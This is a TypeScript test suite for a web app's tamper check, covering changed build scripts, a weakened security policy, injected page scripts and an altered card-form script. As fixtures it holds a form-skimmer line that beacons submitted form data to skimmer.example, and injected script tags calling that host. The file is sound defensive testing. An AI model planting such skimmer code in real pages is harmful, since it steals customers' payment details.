/**
 * The tamper check against a real listening app and card-form server, each serving a copy of the
 * sealed build (web/dist itself is never touched): a clean build passes; a changed script (plain,
 * .br and .gz), a weakened policy, a script injected into the page template and a changed card-form
 * script are each found, named, stored and signed as a script_compromise incident with its alert;
 * a site that does not answer is recorded as a run that could not look, without an incident.
 */
import assert from 'node:assert/strict';
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import { after, before, beforeEach, describe, test } from 'node:test';
import { admin, testApp, testPayments, type TestApp } from '../../tests/helpers/app.js';
import { databaseAvailable, skipReason } from '../../tests/helpers/database.js';
import { freePort } from '../../tests/helpers/net.js';
import type { App } from '../app.js';
import { registerBuild } from './builds.repository.js';
import { resolveIncident } from './incidents.repository.js';
import { SCRIPT_COMPROMISE } from './script-compromise.js';
import { sha384 } from './tamper-check.fetch.js';
import type { TamperFinding } from './tamper-check.findings.js';
import { runTamperCheck, TAMPER_CHECK_PAGES } from './tamper-check.js';
import { startTamperCheckJob } from './tamper-check.job.js';

const dist = join(process.cwd(), 'web', 'dist');
const sealed = existsSync(join(dist, 'build-manifest.json'));
const skip = !databaseAvailable ? skipReason : !sealed ? 'web/dist is not a sealed build: run `npm run build:web` first' : false;
const ALERT_TO = 'security@example.com';
const SKIMMER = ';document.addEventListener("submit",()=>navigator.sendBeacon("https://skimmer.example/c",new FormData(event.target)));\n';

interface Site {
  t: TestApp;
  payments: App;
  copy: string;
  /** Set by a test to change what the servers send, as an intruder on them would. */
  tamper: { csp?: (policy: string) => string; formJs?: (js: string) => string };
  close(): Promise<void>;
}

async function twoPorts(): Promise<[number, number]> {
  const app = await freePort();
  let payments = await freePort();
  while (payments === app) payments = await freePort();
  return [app, payments];
}

/** The app on a real port over a copy of web/dist (changed by `prepare`), the card form on another. */
async function site(prepare: (copy: string) => void = () => {}): Promise<Site> {
  const copy = mkdtempSync(join(tmpdir(), 'taquilla-dist-'));
  cpSync(dist, copy, { recursive: true });
  prepare(copy);
  const [port, paymentPort] = await twoPorts();
  const tamper: Site['tamper'] = {};
  const t = await testApp(
    {
      PORT: String(port),
      PAYMENT_PORT: String(paymentPort),
      BASE_URL: `http://127.0.0.1:${port}`,
      PAYMENT_ORIGIN: `http://127.0.0.1:${paymentPort}`,
      ALERT_EMAILS: ALERT_TO,
    },
    20,
    { webDistDir: copy },
    {
      routes: async (app) => {
        app.addHook('onSend', async (_request, reply, payload) => {
          const policy = reply.getHeader('content-security-policy');
          if (tamper.csp && typeof policy === 'string') reply.header('content-security-policy', tamper.csp(policy));
          return payload;
        });
      },
    },
  );
  await registerBuild(t.ctx.db, t.ctx.buildManifest!);
  await t.app.listen({ port, host: '127.0.0.1' });
  const payments = await testPayments(t.ctx);
  payments.addHook('onSend', async (request, _reply, payload) =>
    tamper.formJs && request.url === '/pay/assets/form.js' && typeof payload === 'string' ? tamper.formJs(payload) : payload,
  );
  await payments.listen({ port: paymentPort, host: '127.0.0.1' });
  return {
    t,
    payments,
    copy,
    tamper,
    close: async () => {
      await payments.close();
      await t.close();
      rmSync(copy, { recursive: true, force: true });
    },
  };
}

const kinds = (findings: TamperFinding[]) => findings.map((f) => `${f.kind} ${f.page}`);

/** The alert emails of one incident; they are queued in the background of sign(), so give them a moment. */
async function incidentAlerts(s: Site, incidentId: string | null) {
  for (let i = 0; i < 50; i++) {
    const rows = await s.t.ctx.db
      .selectFrom('outbox')
      .select(['recipient', 'subject'])
      .where('kind', '=', 'incident_alert')
      .where('body_text', 'like', `%Incident ${incidentId}.%`)
      .execute();
    if (rows.length) return rows;
    await new Promise((r) => setTimeout(r, 20));
  }
  return [];
}

/** Each run below starts with no open incident and no alert, so the one it finds is its own. */
async function calm(s: Site) {
  await resolveIncident(s.t.ctx.db, SCRIPT_COMPROMISE);
  await s.t.ctx.db.deleteFrom('outbox').execute();
}

describe('tamper check', { skip }, () => {
  let s: Site;
  before(async () => {
    s = await site();
  });
  after(() => s?.close());
  beforeEach(async () => {
    s.tamper.csp = undefined;
    s.tamper.formJs = undefined;
    await calm(s);
  });

  test('tamper check: the clean build matches: ok, every page and file hashed, no incident', async () => {
    const result = await runTamperCheck(s.t.ctx);
    assert.deepEqual(result.findings, []);
    assert.equal(result.ok, true);
    assert.equal(result.incidentId, null);
    console.log(`# one tamper check took ${result.durationMs} ms (${result.pages.length} pages and files)`);
    const pages = result.pages.filter((p) => p.kind === 'page');
    assert.deepEqual(pages.map((p) => p.url).sort(), [...TAMPER_CHECK_PAGES, `${s.t.ctx.config.paymentOrigin}/pay/:sessionId`].sort());
    assert.ok(pages.every((p) => p.status === 200 && p.sha384?.startsWith('sha384-')));
    const manifest = s.t.ctx.buildManifest!;
    const index = manifest.pages['index.html']!;
    for (const file of [...index.scripts, ...index.styles]) {
      const got = result.pages.find((p) => p.url === file.path);
      assert.equal(got?.sha384, file.sha384, `${file.path} fetched and hashed`);
      assert.equal(got?.encoding, 'br', `${file.path} came pre-compressed`);
    }
    assert.ok(result.pages.some((p) => p.url.endsWith('/pay/assets/form.js') && p.status === 200));
    const stored = await s.t.ctx.db.selectFrom('tamper_checks').selectAll().where('id', '=', result.id).executeTakeFirstOrThrow();
    assert.equal(stored.ok, true);
    assert.equal(stored.build_id, manifest.buildId);
    assert.equal(await s.t.ctx.db.selectFrom('incidents').select('id').where('status', '=', 'open').executeTakeFirst(), undefined);
  });

  test('tamper check: a script of the build changed on disk (with its .br and .gz) is named, stored, and opens an alerted script_compromise incident', async () => {
    const manifest = s.t.ctx.buildManifest!;
    const target = manifest.pages['index.html']!.scripts.find((f) => f.chunk.includes('checkout')) ?? manifest.pages['index.html']!.scripts[0]!;
    const file = join(s.copy, target.path);
    const originals = ['', '.br', '.gz'].map((ext) => [`${file}${ext}`, existsSync(`${file}${ext}`) ? readFileSync(`${file}${ext}`) : undefined] as const);
    const changed = Buffer.concat([readFileSync(file), Buffer.from(SKIMMER)]);
    try {
      writeFileSync(file, changed);
      writeFileSync(`${file}.br`, brotliCompressSync(changed));
      writeFileSync(`${file}.gz`, gzipSync(changed));
      const result = await runTamperCheck(s.t.ctx);
      assert.equal(result.ok, false);
      assert.deepEqual(
        result.findings.filter((f) => f.kind === 'asset_hash_mismatch'),
        [{ page: target.path, kind: 'asset_hash_mismatch', expected: target.sha384, actual: sha384(changed) }],
      );
      assert.ok(result.incidentId);
      const incident = await s.t.ctx.db.selectFrom('incidents').selectAll().where('id', '=', result.incidentId).executeTakeFirstOrThrow();
      assert.equal(incident.kind, SCRIPT_COMPROMISE);
      assert.equal(incident.status, 'open');
      const event = await s.t.ctx.db.selectFrom('incident_events').selectAll().where('incident_id', '=', result.incidentId).executeTakeFirstOrThrow();
      assert.equal(event.what, 'tamper_check');
      assert.equal(event.details.checkId, result.id);
      const stored = await s.t.ctx.db.selectFrom('tamper_checks').selectAll().where('id', '=', result.id).executeTakeFirstOrThrow();
      assert.equal(stored.ok, false);
      assert.equal(stored.incident_id, result.incidentId);
      assert.deepEqual(kinds(stored.findings as TamperFinding[]), kinds(result.findings));
      const alerts = await incidentAlerts(s, result.incidentId);
      assert.deepEqual(
        alerts.map((a) => a.recipient),
        [ALERT_TO],
      );
    } finally {
      for (const [path, bytes] of originals) if (bytes) writeFileSync(path, bytes);
    }
  });

  test('tamper check: a replaced .br alone is found, because bytes are hashed as browsers receive them', async () => {
    const target = s.t.ctx.buildManifest!.pages['index.html']!.scripts[0]!;
    const br = join(s.copy, `${target.path}.br`);
    const original = readFileSync(br);
    try {
      writeFileSync(br, brotliCompressSync(Buffer.from(SKIMMER)));
      const result = await runTamperCheck(s.t.ctx);
      assert.deepEqual(kinds(result.findings), [`asset_hash_mismatch ${target.path}`]);
      assert.ok(result.incidentId);
    } finally {
      writeFileSync(br, original);
    }
  });

  test('tamper check: a weakened policy (unsafe-inline added, object-src dropped) is found on every guarded page', async () => {
    s.tamper.csp = (policy) => policy.replace('script-src ', "script-src 'unsafe-inline' ").replace("object-src 'none'; ", '');
    const result = await runTamperCheck(s.t.ctx);
    for (const page of TAMPER_CHECK_PAGES) {
      const on = result.findings.filter((f) => f.page === page);
      assert.ok(
        on.some((f) => f.kind === 'csp_unsafe_source' && f.actual.includes("'unsafe-inline'")),
        `unsafe-inline on ${page}`,
      );
      assert.ok(
        on.some((f) => f.kind === 'csp_directive_missing' && f.expected === "object-src 'none'"),
        `object-src on ${page}`,
      );
    }
    assert.ok(result.incidentId);
  });

  test('tamper check: the card form serving a changed form.js is found, named by its URL on the payment origin', async () => {
    s.tamper.formJs = (js) => `${js}${SKIMMER}`;
    const result = await runTamperCheck(s.t.ctx);
    const origin = s.t.ctx.config.paymentOrigin;
    assert.deepEqual(kinds(result.findings), [`asset_hash_mismatch ${origin}/pay/assets/form.js`]);
    assert.ok(result.incidentId);
    assert.equal((await incidentAlerts(s, result.incidentId)).length, 1);
  });

  test('tamper check: a site that does not answer is a run that could not look: not ok, stored, no incident', async () => {
    const nowhere = `http://127.0.0.1:${await freePort()}`;
    const result = await runTamperCheck({ ...s.t.ctx, config: { ...s.t.ctx.config, tamperCheckUrl: nowhere } });
    assert.equal(result.ok, false);
    assert.deepEqual(
      result.findings.map((f) => `${f.kind} ${f.page}`),
      TAMPER_CHECK_PAGES.map((p) => `unreachable ${p}`),
    );
    assert.equal(result.incidentId, null);
    assert.equal(await s.t.ctx.db.selectFrom('incidents').select('id').where('status', '=', 'open').executeTakeFirst(), undefined);
    const stored = await s.t.ctx.db.selectFrom('tamper_checks').select('ok').where('id', '=', result.id).executeTakeFirstOrThrow();
    assert.equal(stored.ok, false);
  });

  test('tamper check: operators list runs (security.read) and run one now (shield.manage); strangers get nothing', async () => {
    const run = await s.t.app.inject({ method: 'POST', url: '/api/admin/security/tamper-checks', headers: admin });
    assert.equal(run.statusCode, 200, run.body);
    assert.equal(run.json().ok, true);
    const list = await s.t.app.inject({ url: '/api/admin/security/tamper-checks?limit=1', headers: admin });
    assert.equal(list.statusCode, 200);
    assert.deepEqual(
      list.json().checks.map((c: { id: string }) => c.id),
      [run.json().id],
    );
    assert.ok(list.json().checks[0].pages.length > 10);
    assert.equal((await s.t.app.inject({ url: '/api/admin/security/tamper-checks' })).statusCode, 401);
    assert.equal((await s.t.app.inject({ method: 'POST', url: '/api/admin/security/tamper-checks' })).statusCode, 401);
  });

  test('tamper check: two processes starting together run one check between them', async () => {
    await s.t.ctx.db.deleteFrom('tamper_checks').execute();
    const log = { info() {}, warn() {}, error() {} };
    const jobs = [startTamperCheckJob(s.t.ctx, log, { firstRunMs: 1 }), startTamperCheckJob(s.t.ctx, log, { firstRunMs: 1 })];
    for (let i = 0; i < 100; i++) {
      const { n } = await s.t.ctx.db
        .selectFrom('tamper_checks')
        .select((eb) => eb.fn.countAll<string>().as('n'))
        .executeTakeFirstOrThrow();
      if (Number(n) > 0) break;
      await new Promise((r) => setTimeout(r, 50));
    }
    await Promise.all(jobs.map((j) => j.stop()));
    const rows = await s.t.ctx.db.selectFrom('tamper_checks').select(['ok']).execute();
    assert.deepEqual(rows, [{ ok: true }]);
    const forced = await jobs[0]!.runNow();
    assert.equal(forced?.ok, true, 'runNow checks even right after a run');
  });
});

describe('tamper check: the page template', { skip }, () => {
  let s: Site;
  before(async () => {
    s = await site((copy) => {
      const index = join(copy, 'index.html');
      const injected =
        '<script nonce="TAQUILLA_NONCE_PLACEHOLDER" src="https://skimmer.example/s.js"></script><script nonce="TAQUILLA_NONCE_PLACEHOLDER">fetch("//skimmer.example")</script>';
      writeFileSync(index, readFileSync(index, 'utf8').replace('</head>', `${injected}</head>`));
    });
  });
  after(() => s?.close());

  test('tamper check: a script tag injected into the page template is found on every page it serves', async () => {
    const result = await runTamperCheck(s.t.ctx);
    for (const page of TAMPER_CHECK_PAGES) {
      const on = result.findings.filter((f) => f.page === page);
      assert.ok(
        on.some((f) => f.kind === 'script_not_in_build' && f.actual === 'https://skimmer.example/s.js'),
        `external script on ${page}`,
      );
      assert.ok(
        on.some((f) => f.kind === 'inline_script' && f.actual.includes('skimmer.example')),
        `inline script on ${page}`,
      );
    }
    assert.ok(result.incidentId);
    assert.equal((await incidentAlerts(s, result.incidentId)).length, 1);
  });
});
